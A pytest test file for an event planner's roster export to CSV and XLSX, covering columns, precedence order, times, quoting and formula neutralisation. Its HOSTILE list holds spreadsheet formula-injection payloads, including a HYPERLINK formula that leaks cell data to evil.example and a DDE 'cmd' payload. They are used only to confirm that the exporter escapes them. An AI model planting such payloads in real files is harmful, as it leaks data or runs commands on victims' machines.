"""The roster spreadsheet: columns, order, times, quoting, and formula neutralisation."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.domain.model import Person, Plan, Rank, Role
from planner.domain.precedence import order_of_precedence
from planner.export.roster_sheet import (
    COLUMNS,
    FORMULA_STARTS,
    neutralise,
    roster_csv,
    roster_rows,
    roster_xlsx,
    unneutralise,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def with_hostile_names(plan: Plan, names: list[str]) -> Plan:
    people = list(plan.people)
    for index, name in enumerate(names):
        person = people[index]
        people[index] = replace(person, given_name=name, position=name)
    return replace(plan, people=tuple(people))


def test_roster_csv_has_exactly_the_roster_columns(cica: Plan) -> None:
    table = read_csv(roster_csv(roster_rows(cica)))
    assert tuple(table[0]) == COLUMNS
    assert COLUMNS == (
        "Delegation",
        "Honorific",
        "Given name",
        "Family name",
        "Position",
        "Rank",
        "Role",
        "E-mail",
        "Arrival",
        "Departure",
    )
    assert len(table) == 1 + len(cica.people)
    assert all(len(row) == len(COLUMNS) for row in table)


def test_roster_csv_is_utf8_with_bom_and_crlf_line_ends(cica: Plan) -> None:
    rows = roster_rows(cica)
    data = roster_csv(rows)
    lines = data.split(b"\r\n")
    assert lines[0] == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode()
    assert lines[-1] == b""  # ends with CRLF
    assert all(b"\n" not in line for line in lines)  # no bare LF anywhere in the sample
    assert (
        "Kazakhstan,H.E.,Қасым-Жомарт,Тоқаев,President of the Republic of Kazakhstan,"
        "Head of state,Member,,2021-10-11 07:00,2021-10-12 23:59"
    ).encode() in lines
    assert read_csv(data)[1:] == [[neutralise(text) for text in row.texts()] for row in rows]


def test_roster_lists_delegations_in_precedence_order_with_the_head_first(cica: Plan) -> None:
    rows = roster_rows(cica)
    order = [cica.delegation_name(d.id) for d in order_of_precedence(cica)]
    seen: list[str] = []
    for row in rows:
        if not seen or seen[-1] != row.delegation:
            assert row.role == "Head of delegation", row
            seen.append(row.delegation)
    assert seen == [name for name in order if name in seen]
    assert len(seen) == len(set(seen))


def test_roster_times_are_the_event_wall_time_whatever_offset_they_were_given_in(
    small_plan: Plan,
) -> None:
    kz = small_plan.delegation_by_id["kz"]
    moved = replace(
        kz,
        arrival=datetime(2021, 10, 11, 1, 5, tzinfo=UTC),  # 07:05 in Almaty (UTC+6 in 2021)
        departure=datetime(2021, 10, 12, 17, 59, tzinfo=UTC),
    )
    plan = replace(small_plan, delegations=(moved, *small_plan.delegations[1:]))
    table = read_csv(roster_csv(roster_rows(plan)))
    kazakh = next(row for row in table if row[0] == "Kazakhstan")
    assert kazakh[8:] == ["2021-10-11 07:05", "2021-10-12 23:59"]


def test_roster_quotes_commas_quotes_and_line_breaks_as_rfc_4180(small_plan: Plan) -> None:
    tricky = 'Counsellor, "Asia" desk\nsecond line'
    person = replace(small_plan.people[3], position=tricky)
    plan = replace(small_plan, people=(*small_plan.people[:3], person))
    data = roster_csv(roster_rows(plan))
    assert b'"Counsellor, ""Asia"" desk\nsecond line"' in data
    table = read_csv(data)
    assert any(row[4] == tricky for row in table)


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_like_cells_are_neutralised_in_csv(small_plan: Plan, name: str) -> None:
    plan = with_hostile_names(small_plan, [name])
    table = read_csv(roster_csv(roster_rows(plan)))
    cells = [cell for row in table[1:] for cell in row[:8]]
    assert neutralise(name) in cells
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_like_cells_are_strings_not_formulas_in_xlsx(small_plan: Plan, name: str) -> None:
    plan = with_hostile_names(small_plan, [name])
    data = roster_xlsx(roster_rows(plan), title="T", timezone="Asia/Almaty")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2, max_col=8) for cell in row]
    for cell in cells:
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type)  # n: empty
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), cell.value
    values = [cell.value for cell in cells]
    # XML parsers read a bare CR as LF; the text stays neutralised either way.
    assert neutralise(name).replace("\r", "\n") in values
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    "text", ["O'Brien", "Ann-Marie", "Jean-Pierre", "a=b", "", "'quoted", "1+1", "Ms. -"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_neutralise_is_safe_and_undone_exactly(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert unneutralise(safe) == text


def test_roster_xlsx_has_a_bold_frozen_header_fitting_widths_and_date_cells(cica: Plan) -> None:
    rows = roster_rows(cica)
    data = roster_xlsx(rows, title=cica.event.name, timezone=cica.event.timezone)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert tuple(cell.value for cell in sheet[1]) == COLUMNS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 + len(cica.people)
    assert "Asia/Almaty" in sheet["I1"].comment.text
    assert sheet["I2"].value == rows[0].arrival.replace(tzinfo=None)
    assert sheet["I2"].number_format == "yyyy-mm-dd hh:mm"
    position_width = sheet.column_dimensions["E"].width
    honorific_width = sheet.column_dimensions["B"].width
    assert position_width > honorific_width and position_width <= 62
    assert workbook.properties.title == cica.event.name
    assert sheet["C2"].value == rows[0].given_name


def test_roster_xlsx_is_the_same_bytes_for_the_same_plan_and_clock(small_plan: Plan) -> None:
    rows = roster_rows(small_plan)
    stamp = datetime(2021, 10, 1, 9, 0, tzinfo=UTC)
    first = roster_xlsx(rows, title="T", timezone="Asia/Almaty", now=stamp)
    second = roster_xlsx(rows, title="T", timezone="Asia/Almaty", now=stamp)
    assert first == second
    workbook = openpyxl.load_workbook(io.BytesIO(first))
    assert workbook.properties.created == stamp.replace(tzinfo=None)
    assert workbook.properties.modified == stamp.replace(tzinfo=None)


def test_roster_xlsx_replaces_characters_xml_cannot_hold(small_plan: Plan) -> None:
    plan = with_hostile_names(small_plan, ["Bell\x07Name", "Null\x00Name"])
    data = roster_xlsx(roster_rows(plan), title="T\x01", timezone="Asia/Almaty")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert "Bell\ufffdName" in values and "Null\ufffdName" in values


def test_roster_keeps_names_in_every_script(small_plan: Plan) -> None:
    names = ["Мұхтар", "سامح", "שלום", "สมชาย", "王毅", "정의용", "सुब्रह्मण्यम", "محمدجواد"]
    plan = with_hostile_names(small_plan, names[:4])
    extra = tuple(
        Person(f"x{index}", "un", name, "Test", Rank.STAFF, Role.ADVISER)
        for index, name in enumerate(names[4:])
    )
    plan = replace(plan, people=plan.people + extra)
    table = read_csv(roster_csv(roster_rows(plan)))
    given_names = {row[2] for row in table}
    assert set(names) <= given_names
    sheet = openpyxl.load_workbook(
        io.BytesIO(roster_xlsx(roster_rows(plan), title="T", timezone="Asia/Almaty"))
    ).active
    assert set(names) <= {cell.value for cell in sheet["C"]}
